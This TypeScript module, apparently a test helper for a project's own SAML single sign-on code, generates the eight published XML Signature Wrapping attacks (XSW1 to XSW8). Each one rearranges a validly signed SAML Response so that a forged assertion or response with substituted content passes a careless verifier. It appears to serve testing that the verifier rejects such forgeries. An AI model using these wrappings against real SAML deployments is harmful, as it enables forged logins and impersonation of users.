import { DOMParser, type Document, type Element, XMLSerializer } from "@xmldom/xmldom";
import { isElement } from "../src/sso/xml.ts";

/**
 * The eight shapes of signature wrapping that Somorovsky and others published and SAML Raider plays: a signed Response
 * or Assertion is kept where a verifier finds it, and a forged one is put where a careless reader looks.
 */
export const WRAPPINGS = {
  XSW1: (forge) =>
    onResponse(forge, ({ forged, original, signature }) => {
      forged.removeChild(signatureOf(forged));
      original.removeChild(signature);
      signature.appendChild(original);
      forged.insertBefore(signature, forged.firstChild?.nextSibling ?? null);
    }),
  XSW2: (forge) =>
    onResponse(forge, ({ forged, original, signature }) => {
      forged.removeChild(signatureOf(forged));
      original.removeChild(signature);
      forged.insertBefore(signature, forged.firstChild);
      forged.insertBefore(original, signature);
    }),
  XSW3: (forge) =>
    onAssertion(forge, ({ response, forged, original }) => {
      forged.removeChild(signatureOf(forged));
      response.insertBefore(forged, original);
    }),
  XSW4: (forge) =>
    onAssertion(forge, ({ response, forged, original }) => {
      forged.removeChild(signatureOf(forged));
      response.replaceChild(forged, original);
      forged.appendChild(original);
    }),
  XSW5: (forge) =>
    onAssertion(forge, ({ response, forged, original }) => {
      original.removeChild(signatureOf(original));
      response.replaceChild(forged, original);
      response.appendChild(original);
    }),
  XSW6: (forge) =>
    onAssertion(forge, ({ response, forged, original }) => {
      original.removeChild(signatureOf(original));
      response.replaceChild(forged, original);
      signatureOf(forged).appendChild(original);
    }),
  XSW7: (forge) =>
    onAssertion(forge, ({ document, response, forged, original }) => {
      forged.removeChild(signatureOf(forged));
      const extensions = document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");
      extensions.appendChild(forged);
      response.insertBefore(extensions, original);
    }),
  XSW8: (forge) =>
    onAssertion(forge, ({ document, response, forged, original }) => {
      const signature = signatureOf(forged);
      original.removeChild(signatureOf(original));
      response.replaceChild(forged, original);
      const object = document.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object");
      object.appendChild(original);
      signature.appendChild(object);
    }),
} satisfies Record<string, (forge: Forge) => string>;

export interface Forge {
  /** A good signed Response. */
  readonly xml: string;
  /** Replaced in the forged copy. */
  readonly from: string;
  readonly to: string;
}

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly original: Element;
  /** A copy with another name and another ID, not in the document yet. */
  readonly forged: Element;
}

function onAssertion(forge: Forge, wrap: (parts: Parts) => void): string {
  const document = parse(forge.xml);
  const response = root(document);
  const original = childNamed(response, "Assertion");
  wrap({ document, response, original, forged: forgedCopy(original, forge) });
  return new XMLSerializer().serializeToString(document);
}

function onResponse(forge: Forge, wrap: (parts: Parts & { signature: Element }) => void): string {
  const document = parse(forge.xml);
  const original = root(document);
  const forged = forgedCopy(original, forge);
  document.replaceChild(forged, original);
  wrap({ document, response: forged, original, forged, signature: signatureOf(original) });
  return new XMLSerializer().serializeToString(document);
}

function forgedCopy(original: Element, { from, to }: Forge): Element {
  const owner = original.ownerDocument;
  if (owner === null) throw new Error("the element has no document");
  const text = new XMLSerializer().serializeToString(original).replaceAll(from, to);
  const copy = owner.importNode(root(parse(text)), true);
  copy.setAttribute("ID", "_forged");
  return copy;
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, "text/xml");
}

function root(document: Document): Element {
  if (document.documentElement === null) throw new Error("the document is empty");
  return document.documentElement;
}

function signatureOf(element: Element): Element {
  return childNamed(element, "Signature");
}

function childNamed(parent: Element, name: string): Element {
  for (let child = parent.firstChild; child !== null; child = child.nextSibling) {
    if (isElement(child) && child.localName === name) return child;
  }
  throw new Error(`there is no ${name}`);
}
